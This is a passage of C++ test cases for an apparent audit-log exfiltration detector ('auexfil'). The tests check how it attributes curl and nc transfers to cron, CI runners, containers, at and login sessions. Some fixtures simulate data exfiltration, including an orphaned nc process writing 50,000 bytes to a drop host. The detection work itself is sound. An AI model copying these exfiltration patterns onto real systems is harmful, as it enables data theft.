  const int manager = log.run(1, 600, "/usr/lib/systemd/systemd", {"(systemd)"});
  log.login(manager, 1000, 1);
  log.user("USER_START", manager, "PAM:session_open", "?");
  log.exec(manager, "/usr/lib/systemd/systemd", {"/lib/systemd/systemd", "--user"});
  curl(log, child(log, manager, 601));
  const auto fact = one(log);
  CHECK(sign_of(fact) == "unattended user-unit");
  CHECK(fact.job->kind == "user-timer");
}

TEST_CASE("machines: CI runners and configuration management") {
  const auto who = GENERATE(table<std::string, std::vector<std::string>, std::string>(
      {{"/opt/runner/bin/Runner.Worker", {"/opt/runner/bin/Runner.Worker", "spawnclient"}, "ci"},
       {"/usr/bin/gitlab-runner", {"gitlab-runner", "run"}, "ci"},
       {"/usr/bin/java", {"java", "-jar", "/var/lib/jenkins/remoting.jar", "-workDir", "/x"}, "ci"},
       {"/usr/bin/java", {"java", "-cp", "agent.jar", "hudson.remoting.jnlp.Main"}, "ci"},
       {"/usr/bin/buildkite-agent", {"buildkite-agent", "bootstrap"}, "ci"},
       {"/usr/bin/act_runner", {"act_runner", "daemon"}, "ci"},
       {"/usr/bin/woodpecker-agent", {"woodpecker-agent"}, "ci"},
       {"/opt/azure/bin/Agent.Worker", {"/opt/azure/bin/Agent.Worker", "spawnclient"}, "ci"},
       {"/usr/bin/python3.11", {"/usr/bin/python3", "/usr/bin/salt-minion"}, "salt"},
       {"/usr/bin/ruby3.1", {"/usr/bin/ruby", "/usr/bin/puppet", "agent"}, "puppet"},
       {"/opt/puppetlabs/puppet/bin/ruby",
        {"/opt/puppetlabs/puppet/bin/ruby", "/opt/puppetlabs/puppet/bin/puppet", "agent"},
        "puppet"},
       {"/usr/bin/ruby3.1", {"/usr/bin/ruby", "/usr/bin/chef-client"}, "chef"},
       {"/usr/bin/cf-agent", {"cf-agent"}, "cfengine"}}));
  CAPTURE(std::get<1>(who));
  Log log;
  log.fork(1, 400);
  log.exec(400, std::get<0>(who), std::get<1>(who));
  log.fork(400, 401);
  log.who(401).tty = "pts0";  // Buildkite runs its jobs on a terminal
  log.exec(401, "/usr/bin/bash", {"bash", "-e", "/tmp/step.sh"});
  curl(log, child(log, 401, 402));
  const auto fact = one(log);
  CHECK(fact.automation == transfer::Verdict::unattended);
  REQUIRE(fact.job);
  CHECK(fact.job->kind == std::get<2>(who));
}

TEST_CASE("machines: in a container clone returns another number; ppid links") {
  CronHost log;
  const int shim = log.daemon(800, "/usr/bin/containerd-shim-runc-v2");
  log.fork(shim, 7000);
  log.exec(7000, "/usr/bin/dash", {"/bin/sh", "-c", "loop"});
  // Inside, the children are 7, 8 and CronHost::kCron; outside they are 7001 to 7003.
  for (const auto& [inside, outside] :
       std::vector<std::pair<int, int>>{{7, 7001}, {8, 7002}, {CronHost::kCron, 7003}}) {
    log.call(7000, "clone", inside, {0x1200011});
    log.inherit(7000, outside);
    curl(log, outside);
  }
  // The host's own process with that number goes on as before.
  const int shell = log.job("curl");
  curl(log, child(log, shell, 1900));
  const auto facts = tell(log);
  REQUIRE(facts.size() == 4);
  for (int i = 0; i < 3; ++i) {
    CHECK(sign_of(facts[static_cast<std::size_t>(i)]) == "unattended container");
  }
  CHECK(sign_of(facts[3]) == "unattended cron");
}

TEST_CASE("machines: a container's number for its child may be a host daemon's that was not seen") {
  Log log;
  log.there(800, 1, "/usr/bin/containerd-shim-runc-v2");
  log.fork(800, 7000);
  log.exec(7000, "/usr/bin/dash", {"/bin/sh", "-c", "loop"});
  log.call(7000, "clone", 300, {0x1200011});
  log.there(300, 1, "/usr/sbin/cron");
  log.fork(300, 301);
  log.exec(301, "/usr/bin/dash", {"/bin/sh", "-c", "job"});
  curl(log, child(log, 301, 302));
  CHECK(sign_of(one(log)) == "unattended cron");
}

TEST_CASE("machines: an orphan whose exec was lost is still its job's") {
  CronHost log;
  const int shell = log.job("daemonise");
  log.fork(shell, 1900);
  log.exit(shell);
  log.who(1900).ppid = 1;
  log.lose(1);
  log.who(1900).exe = "/usr/bin/nc.openbsd";
  log.who(1900).comm = "nc";
  log.tcp(1900, 3, kDrop, 9000);
  log.write(1900, 3, 50'000);
  log.done(1900);
  const auto fact = one(log);
  CHECK(fact.tool == "nc");
  CHECK(sign_of(fact) == "unattended cron");
}

TEST_CASE("machines: at, without session records, by its daemon") {
  CronHost log;
  const int atd = log.daemon(320, "/usr/sbin/atd");
  log.fork(atd, 600);
  log.fork(600, 601);
  log.exec(601, "/usr/bin/dash", {"sh"});
  curl(log, child(log, 601, 602));
  CHECK(sign_of(one(log)) == "unattended at");
}

TEST_CASE("machines: a pid that comes back in another session is another process") {
  // Neither exits nor forks are audited: the person's 510 is gone, cron's job has its number.
  CronHost log;
  log.audited = all_but({"clone", "exit_group"});
  const int shell = log.person(CronHost::kSshd, 500, 5);
  curl(log, child(log, shell, 510));
  const int job = log.job("curl");
  log.there(510, job, "/usr/bin/dash");
  log.who(510).auid = 0;
  log.who(510).ses = log.who(job).ses;
  curl(log, 510);
  const auto facts = tell(log);
  REQUIRE(facts.size() == 2);
  CHECK(sign_of(facts[0]) == "attended interactive-shell");
  CHECK(sign_of(facts[1]) == "unattended cron");
}

TEST_CASE("machines: a program of pam_motd's is no command over ssh") {
  CronHost log;
  const int sshd = log.run(CronHost::kSshd, 500, "/usr/sbin/sshd", {"/usr/sbin/sshd", "-R"});
  log.login(sshd, 1000, 5);
  log.run(sshd, 501, "/usr/bin/dash",
          {"sh", "-c", "/usr/bin/env -i PATH=/bin run-parts --lsbsysinit /etc/update-motd.d"});
  log.run(501, 502, "/usr/bin/run-parts", {"run-parts", "--lsbsysinit", "/etc/update-motd.d"});
  log.run(502, 503, "/usr/bin/dash", {"/bin/sh", "/etc/update-motd.d/99-x"});
  curl(log, child(log, 503, 504));
  CHECK(sign_of(one(log)) == "unattended login-greeting");
}

TEST_CASE("machines: a pid that comes back by clone3 is another process") {
  enum class Was { service, by_clone3, ssh };
  const Was was = GENERATE(Was::service, Was::by_clone3, Was::ssh);
  CAPTURE(was);
  CronHost log;
  if (was == Was::by_clone3) {
    log.inherit(1, 444);
    log.call(1, "clone3", 444, {0x7f, 88});
  } else {
    log.fork(was == Was::ssh ? CronHost::kSshd : 1, 444);
  }
  log.exec(444, was == Was::ssh ? "/usr/sbin/sshd" : "/usr/sbin/anacron", {"x", "-s"});
  log.pass(86'400'000);
  log.inherit(1, 444);
  log.call(1, "clone3", 444, {0x7f, 88});
  curl(log, 444);
  CHECK(sign_of(one(log)) == "unattended service");
}

TEST_CASE("machines: where forks are not audited, a service's pid that comes back from init") {
  CronHost log("", all_but({"clone", "exit_group"}));
  log.inherit(1, 444);
  log.exec(444, "/usr/sbin/anacron", {"anacron", "-s"});
  log.pass(86'400'000);
  log.inherit(1, 444);
  curl(log, 444);
  const std::string sign = sign_of(one(log));
  CHECK((sign == "unattended service" || sign == "unattended no-session"));
}

TEST_CASE("machines: a pid that comes back as cron's child, which speaks by LOGIN alone") {
  CronHost log("", all_but({"clone", "exit_group"}));
  const int shell = log.person(CronHost::kSshd, 500, 5);
  log.pass(86'400'000);
  log.raw(
      fmt::format("type=LOGIN msg=audit({}): pid={} uid=0 subj=unconfined "
                  "old-auid=4294967295 auid=0 tty=(none) old-ses=4294967295 ses=77 res=1\n",
                  log.next_stamp(), shell));
  log.there(601, shell, "/usr/bin/dash", 0, 77);
  log.exec(601, "/usr/bin/dash", {"/bin/sh", "-c", "curl"});
  log.who(shell) = {CronHost::kCron, "/usr/sbin/cron", "cron", "(none)", 0, 0, 77};
  log.user("USER_START", shell, "PAM:session_open", "cron");
  curl(log, child(log, 601, 602));
  CHECK(one(log).automation == transfer::Verdict::unattended);
  CHECK(one(log).lineage.size() == 1);
}

TEST_CASE("machines: a pid that comes back under the same parent is another process") {
  CronHost log;
  log.audited = all_but({"clone", "exit_group"});
  log.there(510, 1, "/usr/bin/bash", 1000, 7, "pts3");
  log.exec(510, "/usr/bin/bash", {"-bash"});
  log.there(510, 1, "/usr/lib/systemd/systemd");  // a service, by init
  curl(log, 510);
  CHECK(one(log).automation == transfer::Verdict::unattended);
}

TEST_CASE("attended programs that no tool entry describes are not told") {
  CronHost log;
  const int shell = log.person(CronHost::kSshd, 500, 5);
  const int mail = log.run(shell, 510, "/usr/bin/mutt", {"mutt"});
  log.tcp(mail, 3, kDrop, 993);
  log.write(mail, 3, 60);
  log.write(mail, 3, 70'000);
  log.done(mail);
  CHECK(tell(log).empty());
}

}  // namespace auexfil::test
